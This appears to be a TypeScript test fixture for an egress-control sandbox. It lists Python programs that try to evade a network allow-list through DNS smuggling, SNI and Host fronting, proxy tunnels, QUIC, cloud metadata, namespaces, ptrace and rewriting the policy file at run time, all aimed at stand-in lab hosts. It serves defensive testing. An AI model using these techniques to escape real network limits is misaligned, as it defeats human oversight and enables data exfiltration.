import type { LockRow } from '../../src/model/lock.js';
import { cryptoFrame } from '../capture/import/support/sessions.js';
import { protectInitial } from '../capture/recognize/quic/support.js';
import { ascii } from '../capture/recognize/support/bytes.js';
import { helloMessage, serverName } from '../capture/recognize/support/hello.js';

/** A way out that the policy does not allow. */
export interface Attempt {
  readonly name: string;
  /** Text of a Python program; what it prints is what the command has got. Its argument is the id of a process outside. */
  readonly python: string;
  /** Exactly what it prints. */
  readonly prints: string;
  /** The same in words. */
  readonly ends: string;
  /** What the report says of it: words of a destination, a query or a denied attempt, one for each. */
  readonly blocked: readonly string[];
  /** Rows beside those that all attempts have. */
  readonly rows?: readonly Place[];
  /** Names that may be asked of the host's resolvers: they are in the list. */
  readonly asked?: readonly string[];
  /** Hosts beside those in the list that a rule allows without saying for which protocols. */
  readonly anyProtocol?: readonly string[];
  /** Datagrams that a stranger gets, since a host is allowed that shares its address: how many, and their bytes. */
  readonly datagrams?: { readonly count: number; readonly bytes: number };
  /** Flows to any other address than those of the listed hosts and of the host's resolver, with the bytes sent. */
  readonly elsewhere?: readonly string[];
  /** Requests that an allowed proxy gets to see. */
  readonly tunnels?: readonly string[];
  /** Requests that a listed host gets inside of TLS: Host and path. */
  readonly requests?: readonly string[];
  /** What of this arrives somewhere, in words; absent where nothing does. */
  readonly arrives?: string;
}

export type Place = Pick<LockRow, 'host' | 'port' | 'protocol'>;

/** What is allowed in each attempt. */
export const LISTED: readonly Place[] = [
  { host: 'web.lab.example', port: 80, protocol: 'http' },
  { host: 'web.lab.example', port: 443, protocol: 'tls' },
  { host: 'proxy.lab.example', port: 3128, protocol: 'http' },
];

/** Where the lab's host offers services that are not on the network. */
export const HOST_SOCKETS = { path: `/run/egresslock-${process.pid}.sock`, abstract: 'egresslock-service' };

const STRANGER = '198.51.100.10';
const WEB = '198.51.100.30';
/** A name that the lab's DNS over HTTPS knows. */
const RESOLVED = 'stranger.collect.lab.example';

/** `said(f)` prints what a call returned, or the name of its error. */
const PRELUDE = `
import errno, http.client, os, socket, ssl, struct, sys, time
socket.setdefaulttimeout(5)
def said(call):
    try:
        print(call())
    except socket.gaierror as error:
        print('EAI', error.errno)
    except OSError as error:
        print(errno.errorcode.get(error.errno, type(error).__name__))
    except ValueError as error:
        print(type(error).__name__)
def tcp(host, port, data=b'x', family=socket.AF_INET):
    s = socket.socket(family)
    s.connect((host, port))
    s.sendall(data)
    return s.recv(1000)[:12]
def secure(address, name, port=443):
    s = socket.create_connection((address, port))
    return ssl._create_unverified_context().wrap_socket(s, server_hostname=name)
def tls(address, name, port=443):
    return secure(address, name, port).version()
def query(name, extra=b'', additional=0, kind=1):
    labels = b''.join(bytes([len(l)]) + l for l in (name if isinstance(name, list) else name.encode().split(b'.')))
    return struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, additional) + labels + b'\\0' + struct.pack('>HH', kind, 1) + extra
def rcode(message):
    return ['NOERROR', 'FORMERR', 'SERVFAIL', 'NXDOMAIN'][message[3] & 15]
def ask(message, server='198.51.100.53'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(message, (server, 53))
    return rcode(s.recv(2000))
def doh(server, name, message):
    c = http.client.HTTPConnection(name)
    c.sock = secure(server, name)
    c.request('POST', '/dns-query', message, {'Content-Type': 'application/dns-message'})
    return socket.inet_ntoa(c.getresponse().read()[-4:])
web = socket.gethostbyname('web.lab.example')
`;

/** A whole hello of QUIC, as Python's hexadecimal. */
const quicHello = (name: string, destination: string): string => {
  const frames = cryptoFrame(0, Buffer.from(helloMessage([serverName(ascii(name))], 32)));
  return protectInitial({ frames, destination: Buffer.from(destination, 'hex') }).toString('hex');
};

const RESET = 'ECONNRESET\n';
const REFUSED = 'ECONNREFUSED\n';

export const ATTEMPTS: readonly Attempt[] = [
  {
    name: 'a bare address',
    python: `said(lambda: tcp('${STRANGER}', 31337))`,
    prints: REFUSED,
    ends: 'refused',
    blocked: [`${STRANGER}:31337`],
  },
  {
    name: 'an address in other spellings',
    python: ['3325256714', '0xc6.0x33.0x64.0xa', '0306.063.0144.012', '198.51.25610']
      .map((text) => `said(lambda: tcp('${text}', 31337))`)
      .join('\n'),
    prints: REFUSED.repeat(4),
    ends: 'refused',
    blocked: [`${STRANGER}:31337`],
  },
  {
    name: 'an IPv4 address as an IPv6 one',
    python: `said(lambda: tcp('::ffff:${STRANGER}', 31337, family=socket.AF_INET6))`,
    prints: REFUSED,
    ends: 'refused',
    blocked: [`${STRANGER}:31337`],
  },
  {
    name: 'a bare address without waiting for its connect',
    python: `
s = socket.socket(); s.setblocking(False)
print(errno.errorcode[s.connect_ex(('${STRANGER}', 31337))])`,
    prints: REFUSED,
    ends: 'refused',
    blocked: [`${STRANGER}:31337`],
  },
  {
    name: 'another port of a listed host',
    python: `said(lambda: tcp(web, 22))`,
    prints: REFUSED,
    ends: 'refused',
    blocked: ['web.lab.example:22'],
  },
  {
    name: 'another protocol on a listed port',
    python: `said(lambda: tcp(web, 443, b'SSH-2.0-x\\r\\n'))\nsaid(lambda: tcp(web, 80, b'0\\x0c\\x02\\x01\\x01\\x60\\x07\\x02\\x01\\x03\\x04\\0\\x80\\0'))`,
    prints: RESET.repeat(2),
    ends: 'reset',
    blocked: ['web.lab.example:443', 'web.lab.example:80'],
  },
  {
    name: 'IPv6 of a host whose IPv4 address is listed',
    python: `said(lambda: tcp('2001:db8:51::30', 80, family=socket.AF_INET6))`,
    prints: REFUSED,
    ends: 'refused',
    blocked: ['2001:db8:51::30:80'],
    rows: [{ host: WEB, port: 80, protocol: 'http' }],
  },
  {
    name: 'an unlisted name',
    python: `said(lambda: ask(query('stranger.collect.lab.example')))`,
    prints: 'NXDOMAIN\n',
    ends: 'NXDOMAIN',
    blocked: ['stranger.collect.lab.example'],
  },
  {
    name: 'a name below a listed one',
    python: `said(lambda: ask(query('secret.web.lab.example')))\nsaid(lambda: ask(query('secret.web.lab.example', kind=16)))`,
    prints: 'NXDOMAIN\n'.repeat(2),
    ends: 'NXDOMAIN',
    blocked: ['secret.web.lab.example'],
  },
  {
    name: 'names over TCP, pipelined',
    python: `
s = socket.create_connection(('198.51.100.53', 53))
one = query('stranger.collect.lab.example'); two = query('other.collect.lab.example')
s.sendall(b''.join(struct.pack('>H', len(q)) + q for q in (one, two)))
data = b''
while len(data) < 2 * (len(one) + 2) - 3: data += s.recv(1000)
print(rcode(data[2:]))`,
    prints: 'NXDOMAIN\n',
    ends: 'NXDOMAIN',
    blocked: ['other.collect.lab.example', 'stranger.collect.lab.example'],
  },
  {
    name: 'data in the padding and the letters of a listed name’s query',
    python: `said(lambda: ask(query('WeB.lAb.eXaMpLe', b'\\0' + struct.pack('>HHIH', 41, 4096, 0, 24) + struct.pack('>HH', 12, 20) + b'secret' * 3 + b'xx', 1)))`,
    prints: 'NOERROR\n',
    ends: 'the name alone is asked, in lower case',
    blocked: [],
  },
  {
    name: 'a resolver of the command’s own choice',
    python: `said(lambda: ask(query('stranger.collect.lab.example'), '198.51.100.54'))\nsaid(lambda: ask(query('stranger.collect.lab.example', kind=16), '${STRANGER}'))`,
    prints: 'NXDOMAIN\n'.repeat(2),
    ends: 'NXDOMAIN',
    blocked: ['stranger.collect.lab.example'],
  },
  {
    name: 'DNS over TLS',
    python: `said(lambda: tls('${STRANGER}', 'stranger.collect.lab.example', 853))`,
    prints: REFUSED,
    ends: 'refused',
    blocked: [`${STRANGER}:853`],
  },
  {
    name: 'DNS over HTTPS of an unlisted host',
    python: ['doh.collect.lab.example.', STRANGER]
      .map((server) => `said(lambda: doh('${server}', 'doh.collect.lab.example', query('${RESOLVED}')))`)
      .join('\n'),
    prints: `EAI -2\n${REFUSED}`,
    ends: 'its name NXDOMAIN, its address refused',
    blocked: [`${STRANGER}:443`, 'doh.collect.lab.example'],
  },
  {
    name: 'DNS over HTTPS of a listed host, and the address that it gave',
    python: `
address = doh(web, 'web.lab.example', query('${RESOLVED}'))
print(address)
said(lambda: tcp(address, 31337))
said(lambda: doh(address, '${RESOLVED}', query('${RESOLVED}')))`,
    prints: `${STRANGER}\n${REFUSED.repeat(2)}`,
    ends: 'the listed host gets the query and answers; the address is refused',
    blocked: [`${STRANGER}:31337`, `${STRANGER}:443`],
    requests: ['web.lab.example/dns-query'],
    arrives: 'the query, at the listed host',
  },
  {
    name: 'SNI of another name than was resolved',
    python: `said(lambda: tls(web, 'stranger.collect.lab.example'))`,
    prints: RESET,
    ends: 'reset',
    blocked: ['web.lab.example:443'],
  },
  {
    name: 'a listed name as SNI for a stranger’s address',
    python: `said(lambda: tls('${STRANGER}', 'web.lab.example'))`,
    prints: REFUSED,
    ends: 'refused',
    blocked: [`${STRANGER}:443`],
  },
  {
    name: 'SNI of an unlisted name that shares a listed one’s address',
    python: `said(lambda: tls(web, 'fronted.lab.example'))`,
    prints: RESET,
    ends: 'reset',
    blocked: ['web.lab.example:443'],
  },
  {
    name: 'a hello without SNI',
    python: `said(lambda: tls(web, None))`,
    prints: RESET,
    ends: 'reset',
    blocked: ['web.lab.example:443'],
  },
  {
    name: 'Host of another name than the listed SNI, inside of TLS',
    python: `
def inside():
    s = secure(web, 'web.lab.example')
    s.sendall(b'GET / HTTP/1.1\\r\\nHost: stranger.collect.lab.example\\r\\n\\r\\n')
    return s.recv(1000)[:12]
said(inside)`,
    prints: "b'HTTP/1.1 200'\n",
    ends: 'not seen: the listed host gets the request, the other one does not',
    blocked: [],
    requests: ['stranger.collect.lab.example/'],
    arrives: 'the request, at the listed host',
  },
  {
    name: 'Host of another name',
    python: `said(lambda: tcp(web, 80, b'GET / HTTP/1.1\\r\\nHost: fronted.lab.example\\r\\n\\r\\n'))`,
    prints: RESET,
    ends: 'reset',
    blocked: ['web.lab.example:80'],
  },
  {
    name: 'Host of another name in a second request',
    python: `
def twice():
    s = socket.create_connection((web, 80))
    s.sendall(b'GET / HTTP/1.1\\r\\nHost: web.lab.example\\r\\n\\r\\n')
    first = s.recv(1000)[:12]
    s.sendall(b'GET /second HTTP/1.1\\r\\nHost: fronted.lab.example\\r\\n\\r\\n')
    print(first)
    return s.recv(1000)[:12]
said(twice)`,
    prints: `b'HTTP/1.1 200'\n${RESET}`,
    ends: 'reset',
    blocked: ['web.lab.example:80'],
  },
  {
    name: 'SNI of another name, said when nobody waits for it any longer',
    python: `
def late(cut):
    hello = ssl.MemoryBIO()
    side = ssl._create_unverified_context().wrap_bio(ssl.MemoryBIO(), hello, server_hostname='fronted.lab.example')
    try: side.do_handshake()
    except ssl.SSLWantReadError: pass
    data = hello.read()
    s = socket.create_connection((web, 443))
    s.sendall(data[:cut]); time.sleep(3.5); s.sendall(data[cut:])
    return s.recv(1000)[:1]
said(lambda: late(1))\nsaid(lambda: late(5))`,
    prints: RESET.repeat(2),
    ends: 'reset',
    blocked: ['web.lab.example:443'],
    anyProtocol: ['web.lab.example'],
  },
  {
    name: 'Host of another name, said when nobody waits for it any longer',
    python: `
def late(*parts):
    s = socket.create_connection((web, 80))
    for part in parts:
        s.sendall(part); time.sleep(3.5)
    return s.recv(1000)[:12]
said(lambda: late(b'G', b'ET / HTTP/1.1\\r\\nHost: fronted.lab.example\\r\\n\\r\\n'))
said(lambda: late(b'GET', b' / HT', b'TP/1.1\\r\\nHost: fronted.lab.example\\r\\n\\r\\n'))`,
    prints: RESET.repeat(2),
    ends: 'reset',
    blocked: ['web.lab.example:80'],
    anyProtocol: ['web.lab.example'],
  },
  {
    name: 'SNI of another name in QUIC, after something else',
    python: `
good = socket.gethostbyname('good.collect.lab.example')
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect((good, 443)); s.settimeout(3)
s.send(b'x'); time.sleep(0.3)
s.send(bytes.fromhex('${quicHello('stranger.collect.lab.example', '8394c8f03e515708')}'))
said(lambda: s.recv(10))`,
    prints: REFUSED,
    ends: 'what came before it arrives, nothing of it: refused',
    blocked: ['good.collect.lab.example:443'],
    anyProtocol: ['good.collect.lab.example'],
    asked: ['good.collect.lab.example'],
    datagrams: { count: 1, bytes: 1 },
    arrives: 'one byte of its own',
    elsewhere: [`udp ${STRANGER}:443, 1 B`],
  },
  {
    name: 'SNI of another name in QUIC, in a second connection of the flow',
    python: `
good = socket.gethostbyname('good.collect.lab.example')
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect((good, 443)); s.settimeout(3)
s.send(bytes.fromhex('${quicHello('good.collect.lab.example', '8394c8f03e515708')}')); time.sleep(0.3)
s.send(bytes.fromhex('${quicHello('stranger.collect.lab.example', '0102030405060708')}'))
said(lambda: s.recv(10))`,
    prints: REFUSED,
    ends: 'the first connection arrives, nothing of the second: refused',
    blocked: ['good.collect.lab.example:443'],
    anyProtocol: ['good.collect.lab.example'],
    asked: ['good.collect.lab.example'],
    datagrams: { count: 1, bytes: 1200 },
    arrives: 'the first hello',
    elsewhere: [`udp ${STRANGER}:443, 1200 B`],
  },
  {
    name: 'CONNECT through a listed proxy',
    python: `said(lambda: tcp(socket.gethostbyname('proxy.lab.example'), 3128, b'CONNECT stranger.collect.lab.example:31337 HTTP/1.1\\r\\n\\r\\n'))`,
    prints: RESET,
    ends: 'reset',
    blocked: ['proxy.lab.example:3128'],
    asked: ['proxy.lab.example'],
  },
  {
    name: 'CONNECT through a listed proxy, to a listed target with another SNI inside',
    python: `
def through():
    s = socket.create_connection((socket.gethostbyname('proxy.lab.example'), 3128))
    s.sendall(b'CONNECT web.lab.example:443 HTTP/1.1\\r\\n\\r\\n')
    print(s.recv(1000)[:12])
    return ssl._create_unverified_context().wrap_socket(s, server_hostname='fronted.lab.example').version()
said(through)`,
    prints: `b'HTTP/1.1 200'\n${RESET}`,
    ends: 'reset',
    blocked: ['proxy.lab.example:3128'],
    asked: ['proxy.lab.example'],
    tunnels: ['CONNECT web.lab.example:443'],
  },
  {
    name: 'CONNECT through a listed proxy, after it has refused an allowed target',
    python: `
def after():
    s = socket.create_connection((socket.gethostbyname('proxy.lab.example'), 3128))
    for refusal in range(5):
        s.sendall(b'CONNECT web.lab.example:1 HTTP/1.1\\r\\n\\r\\n')
        print(s.recv(1000)[:12])
    s.sendall(b'CONNECT stranger.collect.lab.example:31337 HTTP/1.1\\r\\n\\r\\n')
    return s.recv(1000)[:12]
said(after)`,
    prints: `${"b'HTTP/1.1 502'\n".repeat(5)}${RESET}`,
    ends: 'reset',
    blocked: ['proxy.lab.example:3128'],
    anyProtocol: ['web.lab.example'],
    asked: ['proxy.lab.example'],
    tunnels: new Array<string>(5).fill('CONNECT web.lab.example:1'),
  },
  {
    name: 'CONNECT through a listed proxy, after an honest request',
    python: `
def after():
    s = socket.create_connection((socket.gethostbyname('proxy.lab.example'), 3128))
    s.sendall(b'GET / HTTP/1.1\\r\\nHost: proxy.lab.example\\r\\n\\r\\n')
    print(s.recv(1000)[:12])
    s.sendall(b'CONNECT stranger.collect.lab.example:31337 HTTP/1.1\\r\\n\\r\\n')
    return s.recv(1000)[:12]
said(after)`,
    prints: `b'HTTP/1.1 200'\n${RESET}`,
    ends: 'reset',
    blocked: ['proxy.lab.example:3128'],
    asked: ['proxy.lab.example'],
    tunnels: ['GET /'],
  },
  {
    name: 'NUL and CRLF in names',
    python: `
said(lambda: ask(query([b'web', b'lab', b'example\\0', b'collect', b'lab', b'example'])))
said(lambda: ask(query([b'web.lab.example', b'collect', b'lab', b'example'])))
said(lambda: tcp(web, 80, b'GET / HTTP/1.1\\r\\nHost: web.lab.example\\0.collect.lab.example\\r\\n\\r\\n'))
said(lambda: tcp(web, 80, b'GET / HTTP/1.1\\r\\nHost: web.lab.example\\rHost: fronted.lab.example\\r\\n\\r\\n'))`,
    prints: `NXDOMAIN\nNXDOMAIN\n${RESET.repeat(2)}`,
    ends: 'NXDOMAIN, reset',
    blocked: [
      'web.lab.example:80',
      'web.lab.example\\000.collect.lab.example',
      'web\\.lab\\.example.collect.lab.example',
    ],
  },
  {
    name: 'a listed name that is an alias of a stranger’s',
    python: `said(lambda: ask(query('leads-away.lab.example')))\nsaid(lambda: tcp('${STRANGER}', 31337))`,
    prints: `NXDOMAIN\n${REFUSED}`,
    ends: 'NXDOMAIN, refused',
    blocked: [`${STRANGER}:31337`, 'leads-away.lab.example'],
    rows: [{ host: 'leads-away.lab.example', port: 31337, protocol: 'unknown' }],
    asked: ['leads-away.lab.example'],
  },
  {
    name: 'a listed name that leads to loopback or a private network',
    python: `said(lambda: ask(query('rebound.lab.example')))\nsaid(lambda: ask(query('inward.lab.example')))\nsaid(lambda: tcp('10.98.76.54', 80))`,
    prints: `NXDOMAIN\nNXDOMAIN\n${REFUSED}`,
    ends: 'NXDOMAIN, refused',
    blocked: ['10.98.76.54:80', 'inward.lab.example', 'rebound.lab.example'],
    rows: ['rebound.lab.example', 'inward.lab.example'].map((host) => ({ host, port: 80, protocol: 'http' })),
    asked: ['inward.lab.example', 'rebound.lab.example'],
  },
  {
    name: 'a service of the host’s loopback',
    python: `said(lambda: tcp('127.0.0.1', 7070))`,
    prints: REFUSED,
    ends: 'refused',
    blocked: ['localhost:7070'],
  },
  {
    name: 'cloud metadata',
    python: `said(lambda: tcp('169.254.169.254', 80))`,
    prints: REFUSED,
    ends: 'refused',
    blocked: ['169.254.169.254:80'],
  },
  {
    name: 'UDP 443',
    python: `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
said(lambda: s.sendto(b'x' * 1200, ('${STRANGER}', 443)))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def connected():
    s.connect(('${STRANGER}', 443))
    return s.send(b'x' * 1200)
said(connected)`,
    prints: REFUSED.repeat(2),
    ends: 'refused',
    blocked: [`${STRANGER}:443`],
  },
  {
    name: 'several datagrams in one call',
    python: `
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def address(ip): return ctypes.create_string_buffer(struct.pack('=HHI8x', 2, socket.htons(31337), struct.unpack('=I', socket.inet_aton(ip))[0]))
data = ctypes.create_string_buffer(b'secret')
iov = ctypes.create_string_buffer(struct.pack('=QQ', ctypes.addressof(data), 6))
names = [address('${STRANGER}'), address('198.51.100.11')]
vector = ctypes.create_string_buffer(b''.join(struct.pack('=QI4xQQQQI4xI4x', ctypes.addressof(n), 16, ctypes.addressof(iov), 1, 0, 0, 0, 0) for n in names))
libc.sendmmsg(s.fileno(), vector, 2, 0)
time.sleep(0.3); print('done')`,
    prints: 'done\n',
    ends: 'refused',
    blocked: [`${STRANGER}:31337`, '198.51.100.11:31337'],
  },
  {
    name: 'ICMP',
    python: `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
said(lambda: s.sendto(bytes(16), ('${STRANGER}', 0)))`,
    prints: '',
    ends: 'refused',
    blocked: ['icmp'],
  },
  {
    name: 'a list that is changed while the command runs',
    python: `
import json
lock = json.load(open('egress.lock.json'))
lock['rows'].append({'package': '(process) python3', 'phase': 'run', 'host': '${STRANGER}', 'port': 31337, 'protocol': 'unknown'})
json.dump(lock, open('egress.lock.json', 'w'))
said(lambda: tcp('${STRANGER}', 31337))`,
    prints: REFUSED,
    ends: 'refused',
    blocked: [`${STRANGER}:31337`],
  },
  {
    name: 'a list and a config that are changed while a connection is open',
    python: `
import json
s = socket.create_connection((web, 80))
def get(host):
    s.sendall(b'GET / HTTP/1.1\\r\\nHost: ' + host + b'\\r\\n\\r\\n')
    return s.recv(1000)[:12]
said(lambda: get(b'web.lab.example'))
allowed = ('${STRANGER}', 31337, 'unknown'), ('stranger.collect.lab.example', 31337, 'unknown'), ('fronted.lab.example', 80, 'http')
lock = json.load(open('egress.lock.json'))
speaker = lock['rows'][0]['package']
lock['rows'] = [{'package': speaker, 'phase': 'run', 'host': h, 'port': p, 'protocol': q} for h, p, q in allowed]
json.dump(lock, open('egress.lock.json', 'w'))
with open('egresslock.config.yaml', 'w') as config:
    config.write('rules:\\n  - { host: web.lab.example, action: block }\\n')
    for host, _, _ in allowed: config.write('  - { host: ' + host + ', action: allow }\\n')
time.sleep(1)
said(lambda: get(b'web.lab.example'))
said(lambda: tcp(web, 80, b'GET / HTTP/1.0\\r\\nHost: web.lab.example\\r\\n\\r\\n'))
said(lambda: ask(query('stranger.collect.lab.example')))
said(lambda: tcp('${STRANGER}', 31337))
said(lambda: get(b'fronted.lab.example'))`,
    prints: `${"b'HTTP/1.1 200'\n".repeat(3)}NXDOMAIN\n${REFUSED}${RESET}`,
    ends: 'as the policy of the start says: its host passes, others are refused or reset',
    blocked: [`${STRANGER}:31337`, 'stranger.collect.lab.example', 'web.lab.example:80'],
  },
  {
    name: 'an address that another thread changes during the call',
    python: `
import ctypes, threading
libc = ctypes.CDLL(None, use_errno=True)
good, bad = (socket.inet_aton(web), socket.inet_aton('${STRANGER}'))
name = ctypes.create_string_buffer(struct.pack('=HH', 2, socket.htons(80)) + good + bytes(8), 16)
stop = False
def flip():
    while not stop:
        name[4:8] = bad; name[4:8] = good
t = threading.Thread(target=flip); t.start()
for _ in range(60):
    s = socket.socket(); s.setblocking(False)
    libc.connect(s.fileno(), name, 16)
    time.sleep(0.005)
    try: s.send(b'GET / HTTP/1.1\\r\\nHost: web.lab.example\\r\\n\\r\\n')
    except OSError: pass
    s.close()
stop = True; t.join(); print('done')`,
    prints: 'done\n',
    ends: 'refused',
    blocked: [`${STRANGER}:80`],
  },
  {
    name: 'sockets of other families, and io_uring',
    python: `
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for family in (40, socket.AF_PACKET, 38): said(lambda: socket.socket(family, socket.SOCK_STREAM))
print(libc.syscall(425, 8, ctypes.create_string_buffer(120)), errno.errorcode[ctypes.get_errno()])`,
    prints: 'EAFNOSUPPORT\nEAFNOSUPPORT\nEAFNOSUPPORT\n-1 ENOSYS\n',
    ends: 'refused',
    blocked: ['socket AF_ALG', 'socket AF_PACKET', 'socket AF_VSOCK'],
  },
  {
    name: 'a namespace of its own',
    python: `
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
pid = os.fork()
if pid == 0:
    libc.unshare(0x10000000 | 0x40000000)
    said(lambda: tcp('${STRANGER}', 31337))
    sys.stdout.flush(); os._exit(0)
os.waitpid(pid, 0)`,
    prints: REFUSED,
    ends: 'refused',
    blocked: [`${STRANGER}:31337`],
  },
  {
    name: 'ptrace of the sandbox’s first process, and of one outside by the host’s number for it',
    python: `
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
ATTACH, SEIZE = 16, 0x4206
for pid in (1, int(sys.argv[1])):
    for request in (ATTACH, SEIZE): print(libc.ptrace(request, pid, 0, 0), errno.errorcode[ctypes.get_errno()])
# Who is traced is let go when this ends.
time.sleep(0.5)`,
    prints: '-1 EPERM\n-1 EPERM\n-1 ESRCH\n-1 ESRCH\n',
    ends: 'refused',
    blocked: [],
  },
  {
    name: 'a Unix socket of the host’s, such as Docker’s, and one without a path',
    python: `
for name in ('${HOST_SOCKETS.path}', '\\0${HOST_SOCKETS.abstract}'):
    s = socket.socket(socket.AF_UNIX)
    said(lambda: s.connect(name))`,
    prints: REFUSED.repeat(2),
    ends: 'refused',
    blocked: [`unix ${HOST_SOCKETS.path}`],
  },
];

/** The whole program of an attempt. */
export function programOf({ python }: Pick<Attempt, 'python'>): string {
  return `${PRELUDE}${python}\n`;
}
